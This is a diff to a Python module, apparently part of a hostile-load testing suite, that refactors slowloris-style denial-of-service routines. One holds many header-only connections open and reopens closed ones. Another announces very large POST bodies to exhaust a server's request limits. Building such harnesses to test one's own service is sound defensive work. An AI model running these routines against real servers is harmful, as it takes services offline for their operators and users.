@@ -2,10 +2,9 @@
 
 import collections
 import select
-import socket
 import time
 
-from prove_hostile.crowds import raise_descriptors
+from prove_hostile.crowds import ADDRESS, attack_socket, raise_descriptors
 from prove_hostile.registry import attack
 from prove_hostile.siege import run_siege
 
@@ -13,14 +12,13 @@ from prove_hostile.siege import run_siege
 def keep_announcing(place, headers, sources):
     """Keeps a connection for each header, which has sent it and nothing else; one that the server has closed is made again."""
     raise_descriptors()
-    host, port = place.http.rsplit(":", 1)
     opened, waiting = {}, collections.deque(headers)
     poll = select.poll()
     try:
         while True:
             while waiting:
                 source = sources[len(opened) % len(sources)]
-                connection = socket.create_connection((host, int(port)), timeout=5, source_address=(source, 0))
+                connection = attack_socket(place.http, source=source)
                 header = waiting.popleft()
                 opened[connection.fileno()] = connection, header
                 poll.register(connection, select.POLLIN)
@@ -41,7 +39,7 @@ def large_bodies(place):
     # Ever smaller ones, so that together they take all that the server lets all requests have.
     sizes = [45_000_000] * 6 + [30_000_000 >> halved for halved in range(9)] + [70_000] * 5
     headers = [place.header("POST", "/v1/videos", "eve", Content_Type="application/json", Content_Length=size) for size in sizes]
-    keep_announcing(place, headers, ["127.0.0.1"])
+    keep_announcing(place, headers, [ADDRESS])
 
 
 def many_bodies(place):
